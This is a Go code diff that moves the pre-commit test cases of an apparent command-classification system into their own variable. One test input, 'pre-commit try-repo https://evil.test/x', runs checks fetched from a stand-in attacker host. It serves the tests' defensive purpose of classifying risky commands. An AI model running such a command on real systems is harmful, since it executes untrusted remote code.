@@ -39,15 +39,16 @@ var preCommit = Program{
 			{Names: "try-repo", Style: Plain, Does: []Do{{Kind: automode.Run, Target: "checks of another repository", Why: "runs checks of another repository"}}, Args: []Arg{{Role: Data}}},
 		},
 	},
-	Cases: []Case{
-		{`pre-commit`, `Run{entry-point} the project's checks`},
-		{`pre-commit run --all-files`, `Run{entry-point} the project's checks`},
-		{`pre-commit run ruff --files a b`, `Run{entry-point} the project's checks`},
-		{`pre-commit --color never run -c other.yaml`, `Run{entry-point} the project's checks; Run[file native] other.yaml`},
-		{`pre-commit install -t pre-push`, `Configure{persists} the repository's hooks`},
-		{`pre-commit autoupdate --freeze`, `Fetch the repositories of the checks; Write .`},
-		{`pre-commit clean`, `Query its own cache`},
-		{`pre-commit validate-config a.yaml`, `Read a.yaml`},
-		{`pre-commit try-repo https://evil.test/x`, `Run checks of another repository`},
-	},
+}
+
+var preCommitCases = []Case{
+	{`pre-commit`, `Run{entry-point} the project's checks`},
+	{`pre-commit run --all-files`, `Run{entry-point} the project's checks`},
+	{`pre-commit run ruff --files a b`, `Run{entry-point} the project's checks`},
+	{`pre-commit --color never run -c other.yaml`, `Run{entry-point} the project's checks; Run[file native] other.yaml`},
+	{`pre-commit install -t pre-push`, `Configure{persists} the repository's hooks`},
+	{`pre-commit autoupdate --freeze`, `Fetch the repositories of the checks; Write .`},
+	{`pre-commit clean`, `Query its own cache`},
+	{`pre-commit validate-config a.yaml`, `Read a.yaml`},
+	{`pre-commit try-repo https://evil.test/x`, `Run checks of another repository`},
 }
